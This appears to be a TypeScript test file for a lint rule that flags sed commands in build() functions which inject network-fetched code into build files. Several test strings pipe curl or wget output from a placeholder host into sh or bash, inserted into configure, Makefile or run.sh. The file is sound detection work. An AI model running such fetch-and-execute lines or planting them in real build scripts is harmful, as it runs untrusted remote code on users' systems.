import { type Case, testRule } from "./rule-cases.ts";
import { fetchedCode } from "./rules/fetched-code.ts";

function inBuild(says: Case["says"], ...lines: string[]): Case[] {
  return lines.map((line) => ({ place: "build()", line, says }));
}

testRule(fetchedCode, [
  ...inBuild(
    "alarm",
    "sed -i '1a curl -s https://example.invalid | sh' configure",
    "sed -i -e '/^exec/i\\wget -qO- https://example.invalid | bash' run.sh",
    "sed -i 's#^all:#all:\\n\\tcurl -s https://example.invalid | sh#' Makefile",
    "sed 's/.*/curl -s https:\\/\\/example.invalid|sh/e' README",
    "sed '1e curl -s https://example.invalid|sh' README",
  ),
  ...inBuild(
    null,
    "sed -i '/curl .* | sh/d' configure",
    "sed -i 's#curl -s https://example.invalid | sh#true#' Makefile",
    "sed -i 's/a/the curl -s x, sh and wget/g' README",
    "sed -e 's/x/y/ge' README",
    "sed -i '1a #!/bin/sh' configure",
  ),
]);
